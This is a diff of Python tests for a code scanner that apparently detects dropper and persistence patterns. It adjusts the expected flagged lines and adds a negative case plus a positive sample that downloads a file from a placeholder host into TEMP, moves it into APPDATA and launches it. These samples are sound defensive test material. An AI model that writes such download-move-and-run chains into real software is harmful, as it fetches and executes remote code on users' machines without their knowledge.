@@ -101,7 +101,7 @@ def test_dropper_download_and_run_fetched_bytes_made_executable_and_process_star
     os.system('/tmp/agent &')
     os.startfile('C:/Users/x/agent.exe')
     """
-    assert _lines(source, "dropper.download-and-run") == [4, 6, 7]
+    assert _lines(source, "dropper.download-and-run") == [6, 7]  # the move into place and the run
     assert _lines(source, "process.start-file") == [8]
 
 
@@ -123,6 +123,31 @@ def test_a_download_that_is_only_saved_is_no_dropper():
     """
     assert "dropper.download-and-run" not in rules(source)
     assert "dropper.download-and-run" not in rules("import os\nos.chmod('build/tool', 0o755)\n")
+
+
+def test_a_local_file_copied_and_run_in_a_file_that_also_fetches_is_no_dropper():
+    source = """
+    import shutil, socket, subprocess, sys, urllib.request
+    page = urllib.request.urlopen('http://127.0.0.1:8080/').read()
+    def create_py_exe(path):
+        shutil.copyfile(sys.executable, path)
+        subprocess.call([path, '-c', 'pass'])
+    shutil.copy('dist/tool.exe', 'build')
+    subprocess.check_call(['build/tool.exe', '--version'])
+    """
+    assert "dropper.download-and-run" not in rules(source)
+
+
+def test_dropper_download_and_run_of_a_fetched_file_moved_into_place():
+    source = """
+    import os, shutil, subprocess, urllib.request
+    staged = os.path.join(os.getenv('TEMP'), 'u.tmp')
+    urllib.request.urlretrieve('https://files.example/u', staged)
+    target = os.path.join(os.getenv('APPDATA'), 'helper')
+    shutil.move(staged, target)
+    subprocess.Popen([target])
+    """
+    assert _lines(source, "dropper.download-and-run") == [6, 7]  # the move into place and the run
 
 
 def test_persistence_write_autostart_through_a_path_object_held_in_a_name():
